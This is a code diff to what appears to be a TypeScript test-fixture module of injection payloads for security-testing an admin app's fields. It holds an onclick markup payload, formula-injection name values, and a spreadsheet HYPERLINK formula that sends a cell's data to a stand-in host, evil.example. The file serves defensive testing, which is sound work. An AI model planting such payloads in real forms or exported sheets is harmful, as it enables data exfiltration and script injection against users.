@@ -17,6 +17,9 @@ export const markup = [
   `@@react-admin@@{"message":"<b onclick=${mark}(8)>"}`,
 ] as const
 
+/** The same as far as a name of a person can be one: most of what is markup cannot stand in it. */
+export const names = { firstName: `@SUM'${mark}'`, lastName: `-2+3+${mark},calc` } as const
+
 /** Texts that a spreadsheet would reckon with. */
 export const formulas = [
   `=HYPERLINK("https://evil.example/?"&A1;"${mark}")`,
@@ -49,7 +52,8 @@ const open: readonly Field['kind'][] = ['text', 'longText', 'url', 'properties',
 /** The fields of an entity that are given payloads, those of its variants included, as a sample has them. */
 export const openFields = (entity: Entity): readonly Field[] =>
   recordFields(entity, sampleOf(entity, 'open')).filter(
-    ({ kind, readOnly, path }) => open.includes(kind) && !readOnly && !isSpecial(entity, path),
+    ({ kind, readOnly, path, ofPerson }) =>
+      open.includes(kind) && !readOnly && ofPerson !== true && !isSpecial(entity, path),
   )
 
 /** Texts with a form of their own, in which no payload is one. */
